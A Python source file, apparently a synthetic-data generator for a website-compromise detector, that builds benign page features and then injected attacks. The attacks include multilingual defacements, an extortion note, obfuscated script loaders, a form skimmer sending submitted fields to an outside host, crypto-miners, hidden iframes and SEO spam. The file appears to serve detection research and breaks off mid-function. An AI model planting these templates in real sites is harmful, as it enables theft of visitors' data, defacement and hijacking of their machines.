<noscript><div><img src="https://mc.yandex.ru/watch/{n}" style="position:absolute; left:-9999px;" alt="" /></div></noscript>
<!-- /Yandex.Metrika counter -->
'''), {}, []


def b_social_embed(site, r):
    h = reg(site.host).split(".")[0].replace("-", "_")
    if vary([True, False]):
        return dict(main=f'''<blockquote class="twitter-tweet"><p lang="{site.html_lang}" dir="{site.dir}">{site.news[2][0]}</p>&mdash; {site.org_en} (@{h}) <a href="https://twitter.com/{h}/status/{r.randrange(10**18, 10**19)}">{date_en(2)}</a></blockquote> <script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
'''), {}, []
    return dict(main=f'''<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/{alnum(r, 11)}/?utm_source=ig_embed&amp;utm_campaign=loading" data-instgrm-version="14" style=" background:#FFF; border:0; border-radius:3px; margin: 1px; max-width:540px; min-width:326px; padding:0; width:99.375%;"><div style="padding:16px;"><a href="https://www.instagram.com/p/{alnum(r, 11)}/?utm_source=ig_embed&amp;utm_campaign=loading" style=" background:#FFFFFF; line-height:0; padding:0 0; text-align:center; text-decoration:none; width:100%;" target="_blank">View this post on Instagram</a></div></blockquote>
<script async src="//www.instagram.com/embed.js"></script>
'''), {}, []


STATE_LINKS = [("https://www.president.ir/", "پایگاه اطلاع‌رسانی ریاست جمهوری", "Presidency"),
               ("https://www.majlis.ir/", "مجلس شورای اسلامی", "Parliament"),
               ("https://www.eadl.ir/", "قوه قضاییه", "Judiciary"),
               ("https://www.mporg.ir/", "سازمان برنامه و بودجه", "Plan and Budget Organisation"),
               ("https://iran.gov.ir/", "درگاه ملی خدمات دولت", "National government portal"),
               ("https://www.irna.ir/", "خبرگزاری ایرنا", "IRNA news agency")]


def b_state_links(site, r):
    """Links to other state bodies added to the page (useful links)."""
    links = r.sample(STATE_LINKS, 4)
    items = "".join(f'<li><a href="{u}" target="_blank">{en if site.lang == "en" else fa_}</a></li>' for u, fa_, en in links)
    return dict(main=f'<section class="useful-links"><h2>{site.t("links")}</h2><ul>{items}</ul></section>\n'), {}, []


def b_fontawesome_kit(site, r):
    return dict(head=f'<script src="https://kit.fontawesome.com/{hexs(r, 10)}.js" crossorigin="anonymous"></script>\n'), {}, []


def b_own_loader(site, r):
    """The site's own inline loader: a script path built by concatenation,
    or document.write of its own script, as old sites do."""
    if vary([True, False]):
        js = ("(function(){var s=document.createElement('script');s.async=true;"
              f"s.src='/assets/js/'+'widgets'+'/'+'poll'+'.js?v='+{r.randrange(100, 999)};"
              "document.getElementsByTagName('head')[0].appendChild(s);})();")
    else:
        js = "document.write('<script type=\"text/javascript\" src=\"/js/calendar-fa.js\"><\\/script>');"
    return dict(end=f"<script{{N}}>{js}</script>\n"), {}, []


def b_own_redirect(site, r):
    """A redirect the site itself wants: phones to its mobile host, or a
    browser in English to the English pages."""
    d = reg(site.host)
    if vary([True, False]):
        js = f"if (/Android|iPhone|iPod|IEMobile/i.test(navigator.userAgent) && !/nomobile/.test(document.cookie)) {{ window.location.href = 'https://m.{d}' + window.location.pathname; }}"
    else:
        js = "if (!document.cookie.match(/lang=/) && (navigator.language || '').indexOf('en') === 0) { window.location.replace('/en/'); }"
    return dict(head=f"<script{{N}}>{js}</script>\n"), {}, []


def b_spa_bundle(site, r):
    return dict(bundle={"main": hexs(r, 8), "vendors": "8d21b7aa", "runtime": hexs(r, 8), "css": hexs(r, 8)}), {}, []


def b_own_subdomain(site, r):
    d = reg(site.host)
    kind = vary(["cdn", "static", "stats", "files"])
    if kind == "stats":
        return dict(end=f'<script async src="https://stats.{d}/js/script.js" data-domain="{site.host}"></script>\n'), {}, []
    if kind == "files":
        return dict(main=f'<p class="downloads"><a href="https://files.{d}/reports/annual-1404.pdf">{"Annual report" if site.lang == "en" else "گزارش سالانه ۱۴۰۴"}</a> <img src="https://files.{d}/img/report-cover.jpg" width="120" height="160" alt=""></p>\n'), {}, []
    return dict(head=f'''<link rel="preconnect" href="https://{kind}.{d}">
<link rel="stylesheet" href="https://{kind}.{d}/assets/css/fonts.css?v=2">
<script src="https://{kind}.{d}/assets/js/common.min.js?v=2" defer></script>
'''), {}, []


def b_own_other_domain(site, r):
    """Assets on another domain of the site's own organisation."""
    d = [x for x in site.own if x != reg(site.host)][0]
    return dict(head=f'''<link rel="stylesheet" href="https://cdn.{d}/shared/header.css?v=4">
<script src="https://cdn.{d}/shared/header.js?v=4" defer></script>
''', main=f'<iframe src="https://portal.{d}/widgets/services?lang={site.html_lang}" width="100%" height="380" frameborder="0" title="services"></iframe>\n'), {}, []


def b_constituency_widget(site, r):
    """A widget of another state body of the constituency (the government
    services window) that the site embeds."""
    return dict(main='''<div class="gov-window"><iframe src="https://my.gov.ir/widget/services" width="100%" height="300" frameborder="0" title="my.gov.ir"></iframe></div>
<script src="https://my.gov.ir/widget/embed.js" defer></script>
'''), {}, []


def render_n(site, o, m):
    """render() with {N} in snippets replaced by the page's CSP nonce."""
    mm = {k: (v.replace("{N}", nonce_attr(site, o)) if isinstance(v, str) else v) for k, v in m.items()}
    return render(site, o, mm)


# ------------------------------------------------------------------ attacks
#
# Each returns (mods, obs_kw, expect_extra); a full defacement returns
# mods {"full": html}: the whole page replaced.

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
BECH = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def wallet(r):
    k = r.randrange(3)
    if k == 0:
        return "bc1q" + "".join(r.choice(BECH) for _ in range(38))
    if k == 1:
        return "1" + "".join(r.choice(B58) for _ in range(33))
    return "3" + "".join(r.choice(B58) for _ in range(33))


def handle(r):
    a = r.choice(["dark", "black", "ghost", "shadow", "xploit", "r00t", "phantom", "zero", "sniper", "cyber", "anon", "venom"])
    b = r.choice(["_sec", "_team", "x", "_0x", "1337", "_crew", "_army", "_ir", "_tn", "_id", "_tr", "_br"])
    return a + b + str(r.randrange(10, 99))


CREWS = {
    "en": ["Cyb3r Phantom Crew", "0x Dark Legion", "Silent Wolves Team", "Night Raiders Sec"],
    "fa": ["تیم سایبری سایه", "گروه شبح", "تیم امنیتی ققنوس"],
    "tr": ["Kara Bayrak Tim", "Yildiz Siber Ordu", "Bozkurt Hack Tim"],
    "id": ["Garuda Cyber Team", "Jember Black Hat", "Sunda XploiteR Crew", "Nusantara Ghost Army"],
    "ar": ["فريق الظل السيبراني", "جيش الصقور الإلكتروني", "كتيبة الأشباح"],
    "pt": ["Brasil Sec Crew", "Tropa Hacker BR", "Fantasmas do Sul"],
    "ru": ["Тёмный Легион", "Кибер Волки", "Северный Ветер"],
}

SIG_FULL = {
    "en": lambda c, r: (f"Hacked By {c}", f'''<h1>Hacked By {c}</h1>
<h3>Your security is just an illusion. We are everywhere.</h3>
<p>Admin, patch your system. This time we only changed your index.</p>
<p>Greetz: {" - ".join(handle(r) for _ in range(5))}</p>
<marquee><font color="red">Contact: {handle(r)}@proton.me</font></marquee>'''),
    "fa": lambda c, r: (f"هک شد توسط {c}", f'''<h1>این سایت توسط {c} هک شد</h1>
<h3>امنیت شما فقط یک توهم است</h3>
<p>مدیر محترم سایت، سیستم خود را به‌روز کنید. ما فقط صفحه اصلی را تغییر دادیم.</p>
<p>تقدیم به: {" - ".join(handle(r) for _ in range(4))}</p>
<p>ارتباط: <a href="https://t.me/{handle(r)}">تلگرام</a></p>'''),
    "tr": lambda c, r: (f"Hacked By {c}", f'''<h1>Hacked By {c}</h1>
<h2>Sitenizin güvenliği yetersiz! Sistem yöneticisi uyan!</h2>
<p>Bu site {c} tarafından hacklendi. Türkiye'ye selam olsun.</p>
<p>Selamlar: {" - ".join(handle(r) for _ in range(5))}</p>
<p>İletişim: t.me/{handle(r)}</p>'''),
    "id": lambda c, r: (f"Hacked by {c}", f'''<h1>Hacked by {c}</h1>
<h2>Keamanan situs anda sangat lemah!</h2>
<p>Salam dari {c}. Kami tidak merusak data anda, hanya memberi peringatan. Segera patch sistem anda, admin.</p>
<p>Thanks to: {" - ".join(handle(r) for _ in range(5))} - Indonesian Cyber Army</p>
<p>Kontak: {handle(r)}@gmail.com</p>'''),
    "ar": lambda c, r: (f"تم الاختراق بواسطة {c}", f'''<h1>تم اختراق الموقع بواسطة {c}</h1>
<h2>أمنكم مجرد وهم</h2>
<p>إلى مدير الموقع: قم بإصلاح الثغرات. لم نقم بحذف أي شيء هذه المرة.</p>
<p>تحياتنا إلى: {" - ".join(handle(r) for _ in range(4))}</p>
<p>للتواصل: t.me/{handle(r)}</p>'''),
    "pt": lambda c, r: (f"Hackeado por {c}", f'''<h1>Hackeado por {c}</h1>
<h2>Sistema invadido! Sua segurança é uma piada.</h2>
<p>Administrador, corrija suas falhas. Desta vez só trocamos a página inicial.</p>
<p>Agradecimentos: {" - ".join(handle(r) for _ in range(5))}</p>
<p>Contato: {handle(r)}@protonmail.com</p>'''),
    "ru": lambda c, r: (f"Взломано {c}", f'''<h1>Сайт взломан группой {c}</h1>
<h2>Ваша безопасность — иллюзия.</h2>
<p>Администратор, обнови систему. В этот раз мы только заменили главную страницу.</p>
<p>Привет всем: {" - ".join(handle(r) for _ in range(4))}</p>
<p>Связь: t.me/{handle(r)}</p>'''),
}

# Political or protest defacements: no "hacked by", no crew, no greetings.
NOSIG_FULL = {
    "en": ("A message to the people", '''<h1>A message to the people</h1>
<p>For years the officials of this office have ignored the voices of ordinary citizens. Today we speak where they cannot ignore us. The truth about the contracts signed behind closed doors will come out.</p>
<p>We ask every employee of this institution: whose side are you on?</p>
<p>The day of accountability is near.</p>'''),
    "fa": ("پیام ما به مردم", '''<h1>پیام ما به مردم</h1>
<p>این پیام را برای همه شهروندان می‌نویسیم. مسئولان باید پاسخگوی مشکلات مردم باشند و صدای معترضان را بشنوند. ما تا رسیدن به خواسته‌هایمان ادامه می‌دهیم.</p>
<p>روزی که حقیقت آشکار شود دور نیست.</p>'''),
    "tr": ("Sesimizi duyun", '''<h1>Sesimizi duyun!</h1>
<p>Mazlum halkların sesi susturulamaz. Zulme karşı sessiz kalan herkes bu zulmün ortağıdır. Kardeşlerimiz için buradayız ve susmayacağız.</p>
<p>Bu mesaj dünyanın her yerine ulaşacak.</p>'''),
    "id": ("Pesan untuk dunia", '''<h1>Pesan untuk dunia</h1>
<p>Kami tidak akan diam melihat saudara-saudara kami tertindas. Pemerintah kalian harus bertanggung jawab atas semua ketidakadilan ini. Suara kami akan terus terdengar di seluruh dunia.</p>
<p>Bebaskan mereka sekarang juga.</p>'''),
    "ar": ("رسالة إلى العالم", '''<h1>رسالة إلى العالم</h1>
<p>لن نسكت عن الظلم الواقع على إخوتنا. على حكوماتكم أن تتحمل مسؤولية ما يجري. صوتنا سيصل إلى كل مكان مهما حاولتم إسكاته.</p>
<p>الحرية لكل المظلومين.</p>'''),
    "pt": ("Protesto", '''<h1>Chega de corrupção!</h1>
<p>Este governo rouba do povo há anos e ninguém é punido. Estamos aqui para mostrar que o povo não esqueceu. Exigimos justiça e transparência já.</p>
<p>O povo acordou.</p>'''),
    "ru": ("Обращение к гражданам", '''<h1>Обращение к гражданам</h1>
<p>Чиновники этого ведомства годами игнорируют простых людей. Сегодня мы говорим там, где нас нельзя не услышать. Правда о закрытых контрактах выйдет наружу.</p>
<p>День расплаты близок.</p>'''),
}


def a_deface_full(lang, sig):
    def f(site, r):
        if sig:
            crew = r.choice(CREWS[lang])
            title, body = SIG_FULL[lang](crew, r)
        else:
            title, body = NOSIG_FULL[lang]
        d = "rtl" if lang in ("fa", "ar") else "ltr"
        style = r.choice(["background:#000;color:#0f0;font-family:monospace",
                          "background:#111 url(https://i.imgur.com/%s.gif) no-repeat center;color:#fff" % alnum(r, 7),
                          "background:black;color:white;font-family:Courier New"])
        music = vary(["", f'<iframe width="0" height="0" src="https://www.youtube.com/embed/{alnum(r, 11)}?autoplay=1&loop=1" frameborder="0"></iframe>',
                          f'<audio src="https://files.catbox.moe/{alnum(r, 6).lower()}.mp3" autoplay loop></audio>'])
        html = f'''<!DOCTYPE html>
<html dir="{d}"><head><meta charset="utf-8"><title>{title}</title>
<meta name="viewport" content="width=device-width">
<style>body{{{style};text-align:center;margin-top:8%}}h1{{font-size:42px}}</style>
</head><body>
{body}
{music}
</body></html>
'''
        return dict(full=html), {}, []
    return f


def top_block(inner, r, style=None):
    style = style or r.choice(["background:#000;color:#f00;padding:20px;text-align:center;font-size:20px",
                               "background:#fff;color:#000;border:3px solid red;padding:12px;text-align:center",
                               "background:#111;color:#0f0;padding:15px;font-family:monospace;text-align:center"])
    return f'<div style="{style}">\n{inner}\n</div>\n'


def a_partial_sig(site, r):
    lang = vary(["en", "fa", "tr", "id"])
    crew = r.choice(CREWS[lang])
    inner = {
        "en": f"<h1>Hacked by {crew}</h1><p>Admin, your security is poor. Patch your CMS.</p>",
        "fa": f"<h2>این سایت توسط {crew} هک شده است</h2><p>هک شده توسط: {crew} - تقدیم به همه دوستان</p>",
        "tr": f"<h1>Hacked By {crew}</h1><p>Sitenizin güvenliği yetersiz.</p>",
        "id": f"<h1>Hacked by {crew}</h1><p>Salam dari {crew}, patch situs anda.</p>",
    }[lang]
    return dict(top=top_block(inner, r)), {}, []


def a_marquee(site, r):
    hs = [handle(r) for _ in range(4)]
    tg = handle(r)
    return {r.choice(["top", "top", "main", "end"]): f'''<marquee behavior="alternate" scrollamount="8" style="background:#000;color:#ff0033;font-size:24px;font-weight:bold">@{hs[0]} ~ @{hs[1]} ~ @{hs[2]} ~ @{hs[3]} &nbsp;|&nbsp; <a href="https://t.me/{tg}" style="color:#0ff">t.me/{tg}</a></marquee>
'''}, {}, []


def a_extortion(site, r):
    w = wallet(r)
    tg = handle(r)
    days = r.choice([48, 72, 96])
    if site.lang == "en" or r.random() < 0.4:
        txt = f'''<h2>ATTENTION ADMINISTRATOR</h2>
<p>All files and the database of this server were downloaded and encrypted. A full copy is in our hands.</p>
<p>To restore your data send <b>0.{r.randrange(5, 9)} BTC</b> to the wallet <code>{w}</code> and contact us on Telegram <a href="https://t.me/{tg}">@{tg}</a> with your site name.</p>
<p>If we do not hear from you within {days} hours, the data of your users will be published.</p>'''
    else:
        txt = f'''<h2>توجه مدیر سایت</h2>
<p>تمام فایل‌ها و پایگاه داده این سرور دانلود و رمزگذاری شده است و یک نسخه کامل در اختیار ماست.</p>
<p>برای بازگرداندن اطلاعات، مبلغ <b>۰٫{fa(r.randrange(5, 9))} بیت‌کوین</b> به کیف پول <code>{w}</code> واریز کنید و در تلگرام با <a href="https://t.me/{tg}">@{tg}</a> تماس بگیرید.</p>
<p>اگر تا {fa(days)} ساعت دیگر پاسخی دریافت نکنیم، اطلاعات کاربران شما منتشر خواهد شد.</p>'''
    return dict(top=top_block(txt, r, "background:#fff3f3;color:#900;border:2px solid #900;padding:16px")), {}, []


def a_greetings(site, r):
    names = [handle(r) for _ in range(r.randrange(7, 12))]
    lead = r.choice(["Special thanks to:", "Respect to all brothers:", "Salam to:", "Big love to:"])
    rows = "<br>".join(f"~ {n} ~" for n in names)
    return {r.choice(["top", "main", "end"]): top_block(f'<p><b>{lead}</b></p><p>{rows}</p><p>We were here.</p>', r)}, {}, []


def a_turkish_block(site, r):
    return dict(top=top_block('''<h2>Sayın site yöneticisi</h2>
<p>Sitenizin güvenliği çok zayıf. Açığınızı kapatmadığınız sürece tekrar geleceğiz. Bu sayfa sadece bir uyarıdır, hiçbir veri silinmedi.</p>
<p>Türkiye'den sevgilerle. Çanakkale geçilmez!</p>''', r)), {}, []


def a_indonesian_block(site, r):
    return dict(top=top_block(f'''<h2>Pesan untuk admin</h2>
<p>Keamanan website anda sangat lemah. Kami masuk lewat celah upload dan tidak merusak apapun. Tolong segera perbaiki sistem anda sebelum orang lain datang.</p>
<p>Salam hangat dari Nusantara. Kami tidak mencari uang, kami mencari keadilan. #{handle(r)}</p>''', r)), {}, []


def a_arabic_block(site, r):
    return dict(top=top_block(f'''<h2>إلى إدارة هذا الموقع</h2>
<p>لقد دخلنا إلى نظامكم بسهولة. ثغراتكم مكشوفة للجميع ولن نتوقف حتى يتم إصلاحها. هذه رسالة تحذير فقط ولم نحذف أي بيانات.</p>
<p>تحية إلى كل الإخوة في {r.choice(CREWS["ar"])}.</p>''', r)), {}, []


def a_overlay(sig):
    return lambda site, r: _overlay(site, r, sig)


def _overlay(site, r, sig):
    """A defacement laid over the intact page: a fixed layer covering the
    whole window."""
    if sig:
        crew = r.choice(CREWS["en"] + CREWS["tr"])
        inner = f"<h1>Hacked by {crew}</h1><p>Your site is ours. Greetz to all.</p>"
    else:
        lang = vary(["en", "ar", "tr"])
        inner = NOSIG_FULL[lang][1]
    return dict(top=f'''<div id="{alnum(r, 6)}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#000;color:#fff;text-align:center;padding-top:10%">
{inner}
</div>
'''), {}, []


def a_new_post(sig):
    """The defacer publishes a post through the CMS: the site's layout
    stays, the newest item of the news list is theirs."""
    def f(site, r):
        if sig:
            crew = r.choice(CREWS["en"] + CREWS["id"] + CREWS["tr"])
            item = (f"Hacked by {crew}", f"Your site has been hacked by {crew}. Admin, patch your system. Greetz to all members.")
        else:
            lang = vary(["en", "tr", "id", "ar", "ru"])
            title, body = NOSIG_FULL[lang]
            txt = body.split("<p>", 1)[1].split("</p>", 1)[0]
            item = (title, txt)
        return dict(news=[item] + site.news[5:10]), {}, []
    return f


JP_SPAM = ["激安 ブランド 財布 通販", "ルイヴィトン バッグ 新作 激安", "スーパーコピー 時計 代引き", "ロレックス 偽物 販売", "ナイキ スニーカー 格安 通販"]


def a_japanese_seo(site, r):
    """The Japanese keyword hack: the title and a block of the page
    rewritten with spam keywords linking to shops."""
    kw = r.choice(JP_SPAM)
    links = "\n".join(f'<a href="https://{r.choice(["brand-jp", "copy-shop", "super-kopi", "jp-outlet"])}{r.randrange(1, 99)}.{r.choice(["com", "shop", "top"])}/{alnum(r, 6).lower()}.html">{r.choice(JP_SPAM)}</a>' for _ in range(r.randrange(10, 20)))
    return dict(title=f"{kw} - {r.choice(JP_SPAM)}", main=f"<div class=\"kw\"><h2>{kw}</h2>\n{links}\n</div>\n"), {}, []


def a_deface_image(site, r):
    """A full defacement that is nothing but an image and a title."""
    crew = r.choice(CREWS["en"] + CREWS["tr"] + CREWS["id"])
    title = vary([f"Hacked By {crew}", "./0wn3d", crew, "index"])
    html = f'''<html><head><title>{title}</title></head>
<body bgcolor="black"><center><img src="https://i.ibb.co/{alnum(r, 7)}/{alnum(r, 6).lower()}.jpg" width="100%"></center></body></html>
'''
    return dict(full=html), {}, []


def a_title(site, r):
    title = vary([f"Hacked By {r.choice(CREWS['en'])}", "Situs Slot Gacor Hari Ini Gampang Maxwin 2026",
                      "خرید فالوور ارزان اینستاگرام", "سایت شرط بندی معتبر | بونوس ویژه", f"Owned by {handle(r)}",
                      "Viagra Online Kaufen Ohne Rezept", f"هک شد | {r.choice(CREWS['fa'])}"])
    return dict(title=title), {}, []


def lookalike_host(site, r, k=None):
    own = reg(site.host)
    label = own.split(".")[0]
    cand = [
        ("www.google-anaiytics.com", "/analytics.js"),
        ("code-jquery.cc", "/jquery-3.7.1.min.js"),
        ("cdn.jsdelivr.net.x.top", "/npm/jquery@3.7.1/dist/jquery.min.js"),
        ("ajax.googleapis.com.cdn-edge.top", "/ajax/libs/jquery/3.7.1/jquery.min.js"),
        ("xn--query-y2e.com", "/jquery.min.js"),
        ("www.googletagmanaqer.com", "/gtag/js?id=G-" + alnum(r, 10).upper()),
        ("cdnjs.cloudfiare.com", "/ajax/libs/jquery/3.7.1/jquery.min.js"),
        ("static.cloudflareinsight.com", "/beacon.min.js"),
        ("jquery-cdn.org", "/jquery-migrate-3.4.1.min.js"),
        ("cdn.jsdeliver.net", "/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js"),
        (label.replace("m", "rn", 1) + "." + own.split(".", 1)[1] if "m" in label else label + "s." + own.split(".", 1)[1], "/assets/js/main.js"),
        (f"{own}.cdn-assets.top", "/js/app.js"),
        (f"{label}-{own.split('.')[-1]}.com", "/static/js/site.js"),
    ]
    return cand[k % len(cand)] if k is not None else r.choice(cand)


LOOKALIKES = 13


def a_lookalike(k):
    """The k-th look-alike family: typosquats of analytics and library
    CDNs, a known name inside another registrable domain, punycode, and
    imitations of the site's own domain."""
    def f(site, r):
        h, p = lookalike_host(site, r, k)
        where = r.choice(["head", "end"])
        return {where: f'<script src="https://{h}{p}"></script>\n'}, {}, []
    return f


def a_ip(site, r):
    ip = f"{r.choice([185, 91, 45, 194, 176, 5])}.{r.randrange(1, 254)}.{r.randrange(1, 254)}.{r.randrange(2, 254)}"
    port = r.choice(["", ":8080", ":8443", ""])
    path = r.choice(["/js/jquery.min.js", "/s.js", "/wp-includes/js/l.js", "/jquery-ui.js"])
    where = r.choice(["head", "end"])
    return {where: f'<script type="text/javascript" src="http://{ip}{port}{path}"></script>\n'}, {}, []


FOREIGN = ["cdn-analytics-stat.xyz", "jscdn.pw", "statcounter-cdn.top", "metrics-cdn.online", "fastcdn-js.site",
           "counter-hits.icu", "webstat-service.club", "js-libs.space", "cdn-static-files.monster", "trk-stat.live"]


def a_user_host(site, r):
    """A script from a host anyone can publish on: raw GitHub, a gist, a
    github.io page, a pastebin, a tunnel."""
    u = vary([f"https://raw.githubusercontent.com/{handle(r)}/js/main/loader.js",
                  f"https://gist.githubusercontent.com/{handle(r)}/{hexs(r, 32)}/raw/x.js",
                  f"https://{handle(r).replace('_', '-')}.github.io/cdn/jquery.min.js",
                  f"https://pastebin.com/raw/{alnum(r, 8)}",
                  f"https://{hexs(r, 8)}-{r.randrange(10, 99)}-{r.randrange(100, 250)}.ngrok-free.app/s.js"])
    return {r.choice(["head", "end"]): f'<script src="{u}"></script>\n'}, {}, []


def a_unknown_host(site, r):
    """A script from an ordinary-looking host nobody on the site uses."""
    h = vary(["cdn.statistic-counter.com", "js.webanalytics-pro.net", "api.jqueryui-cdn.org",
                  "static.site-speedup.com", "cdn.widgetsplus.io"])
    return {r.choice(["head", "end"]): f'<script type="text/javascript" src="https://{h}/{r.choice(["track", "widget", "speed", "lib"])}.min.js?ver={r.randrange(1, 9)}.{r.randrange(0, 9)}"></script>\n'}, {}, []


def a_protorel(site, r):
    h = r.choice(FOREIGN)
    return dict(end=f'<script src="//{h}/{r.choice(["track", "c", "stat", "lib"])}.js?v={r.randrange(1, 9)}"></script>\n'), {}, []


def _url(r, kind="js"):
    h = r.choice(FOREIGN)
    return f"https://{h}/{alnum(r, 6).lower()}.{kind}"


def a_obf_concat(site, r):
    u = _url(r)
    parts = []
    i = 0
    while i < len(u):
        n = r.randrange(2, 6)
        parts.append(u[i:i + n])
        i += n
    js = "+".join(f"'{p}'" for p in parts)
    return dict(end=f'''<script{{N}}>(function(){{var s=document.createElement('script');s.type='text/javascript';s.async=true;s.src={js};var x=document.getElementsByTagName('script')[0];x.parentNode.insertBefore(s,x);}})();</script>
'''), {}, []


def a_obf_hex(site, r):
    u = _url(r)
    esc = "".join("\\x%02x" % ord(c) for c in u)
    v = "_0x" + hexs(r, 4)
    return dict(end=f'''<script{{N}}>var {v}=["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74","\\x73\\x63\\x72\\x69\\x70\\x74","{esc}"];var _s=document[{v}[0]]({v}[1]);_s["\\x73\\x72\\x63"]={v}[2];document["\\x68\\x65\\x61\\x64"]["\\x61\\x70\\x70\\x65\\x6e\\x64\\x43\\x68\\x69\\x6c\\x64"](_s);</script>
'''), {}, []


def a_obf_atob(site, r):
    u = _url(r)
    tag = f'<script src="{u}"></script>'
    if vary([True, False]):
        js = f'document.write(atob("{base64.b64encode(tag.encode()).decode()}"));'
    else:
        js = f'var s=document.createElement("script");s.src=atob("{base64.b64encode(u.encode()).decode()}");document.body.appendChild(s);'
    return dict(end=f"<script{{N}}>{js}</script>\n"), {}, []


def a_obf_charcode(site, r):
    u = _url(r)
    codes = ",".join(str(ord(c)) for c in u)
    return dict(end=f'''<script{{N}}>var e=document.createElement(String.fromCharCode(115,99,114,105,112,116));e.src=String.fromCharCode({codes});document.getElementsByTagName(String.fromCharCode(104,101,97,100))[0].appendChild(e);</script>
'''), {}, []


def a_obf_unescape(site, r):
    u = _url(r)
    tag = f'<script type="text/javascript" src="{u}"></script>'
    enc = "".join("%%%02X" % ord(c) for c in tag)
    return dict(end=f"<script{{N}}>document.write(unescape('{enc}'));</script>\n"), {}, []


def a_skimmer(site, r):
    """A skimmer: the page's forms are read on submit and sent away in an
    image beacon (nothing is loaded, the data leaves)."""
    h = vary(["cdn-stat-img.top", "pixel-counter.xyz", "img-cache-cdn.online"])
    return dict(end=f'''<script{{N}}>document.addEventListener("submit",function(e){{try{{var f=e.target,d=[];for(var i=0;i<f.elements.length;i++){{var x=f.elements[i];if(x.name&&x.value)d.push(x.name+"="+x.value);}}new Image().src="https://{h}/p.gif?d="+btoa(unescape(encodeURIComponent(d.join("&"))))+"&s="+location.host;}}catch(_){{}}}},true);</script>
'''), {}, []


def a_miner(site, r):
    k = vary([0, 1, 2, 3])
    key = alnum(r, 32)
    if k == 0:
        s = f'''<script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script{{N}}>var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.3}}); miner.start();</script>'''
    elif k == 1:
        s = f'''<script src="https://crypto-loot.com/lib/miner.min.js"></script>
<script{{N}}>var miner=new CRLT.Anonymous('{hexs(r, 40)}', {{threads:4,autoThreads:false,throttle:0.2,coin:"upx"}}); miner.start();</script>'''
    elif k == 2:
        s = f'''<script src="https://www.hostingcloud.racing/{alnum(r, 4)}.js"></script>
<script{{N}}>var _client = new Client.Anonymous('{hexs(r, 64)}', {{throttle: 0, c: 'w', ads: 0}}); _client.start();</script>'''
    else:
        # the miner copied onto the site itself: no foreign host at all
        s = f'''<script src="/{'wp-content/uploads/2026/11' if site.struct == 'wordpress' else 'images'}/{alnum(r, 5).lower()}.js"></script>
<script{{N}}>var miner = new CoinHive.Anonymous('{key}', {{throttle: 0.1, autoThreads: true}}); if (!miner.isMobile()) {{ miner.start(CoinHive.FORCE_EXCLUSIVE_TAB); }}</script>'''
    return dict(end=s + "\n"), {}, []


def a_jsdelivr_gh(site, r):
    user = handle(r)
    repo = r.choice(["assets", "cdn", "js", "static", "jquery-plugins", "lib"])
    f = r.choice(["main.js", "jquery.min.js", "app.min.js", "x.js"])
    if vary([True, True, False]):
        u = f"https://cdn.jsdelivr.net/gh/{user}/{repo}@{r.choice(['main', 'master', '1.0', 'latest'])}/{f}"
    else:
        u = f"https://cdn.jsdelivr.net/npm/{user.replace('_', '-')}-utils@1.0.{r.randrange(0, 9)}/dist/{f}"
    return dict(end=f'<script src="{u}"></script>\n'), {}, []


HIDE_IFRAME = {
    "display": 'style="display:none"',
    "visibility": 'style="visibility:hidden"',
    "size0": 'width="0" height="0" frameborder="0"',
    "size1": 'width="1" height="1" frameborder="0" scrolling="no"',
    "offscreen": 'style="position:absolute;left:-9999px;top:-9999px" width="300" height="250"',
    "opacity": 'style="opacity:0;position:absolute" width="400" height="300"',
    "class": 'class="{C}" width="468" height="60"',
    "attr": 'hidden width="300" height="200"',
}


def a_iframe_hidden(method):
    def f(site, r):
        h = r.choice(FOREIGN + ["tds-gate.top", "redir-flow.xyz", "ad-traffic-exchange.biz"])
        attrs = HIDE_IFRAME[method]
        pre = ""
        if method == "class":
            c = "c" + alnum(r, 5).lower()
            attrs = attrs.replace("{C}", c)
            pre = f"<style>.{c}{{display:none!important}}</style>\n"
        src = vary([f"http://{h}/in.cgi?{r.randrange(2, 30)}", f"https://{h}/go.php?sid={r.randrange(100, 999)}",
                        f"//{h}/index.php"])
        return {r.choice(["end", "end", "main", "top"]): f'{pre}<iframe src="{src}" {attrs}></iframe>\n'}, {}, []
    return f


SPAM = {
    "fa": (["کازینو آنلاین", "سایت شرط بندی", "بت فوروارد", "بازی انفجار", "پوکر آنلاین", "شرط بندی فوتبال", "بونوس ثبت نام", "سایت شرط بندی معتبر"],
           ["bet-forward", "enfejar-bet", "casino-fa", "betshart", "poker-iran", "takbet"], ["top", "xyz", "bet", "club"]),
    "id": (["judi online", "slot gacor", "situs slot", "togel hari ini", "slot88", "judi bola", "agen slot terpercaya", "slot maxwin"],
           ["slotgacor88", "judibola-id", "togel4d", "maxwin-slot", "situs-gacor", "rtp-live"], ["com", "xyz", "org", "site"]),
    "en": (["cheap viagra", "online casino", "buy cialis", "payday loans", "replica watches", "best slots", "casino bonus", "essay writing service"],
           ["pharma-rx", "casino-royale-bonus", "cheap-pills", "payday-fast", "replica-lux", "slots-win"], ["com", "net", "info", "biz"]),
}

HIDE_BLOCK = {
    "display": 'style="display:none"',
    "visibility": 'style="visibility:hidden;height:0"',
    "offscreen": 'style="position:absolute;left:-10000px;top:0"',
    "opacity": 'style="opacity:0;height:1px;overflow:hidden"',
    "class": 'class="{C}"',
    "attr": 'hidden',
    "size0": 'style="height:0;width:0;overflow:hidden"',
    "font0": 'style="font-size:0;line-height:0"',
}


def a_seo_spam(method, lang):
    def f(site, r):
        words, hosts, tlds = SPAM[lang]
        n = r.randrange(12, 30)
        links = "\n".join(f'<a href="https://{r.choice(hosts)}{r.randrange(1, 99)}.{r.choice(tlds)}/">{r.choice(words)}</a>' for _ in range(n))
        attrs = HIDE_BLOCK[method]
        pre = ""
        if method == "class":
            c = r.choice(["wp-", "mod-", "blk-"]) + alnum(r, 6).lower()
            attrs = attrs.replace("{C}", c)
            pre = f"<style>.{c}{{position:absolute;clip:rect(0 0 0 0);display:none}}</style>\n"
        where = r.choice(["end", "main", "top"])
        return {where: f"{pre}<div {attrs}>\n{links}\n</div>\n"}, {}, []
    return f


def a_parasite(site, r):
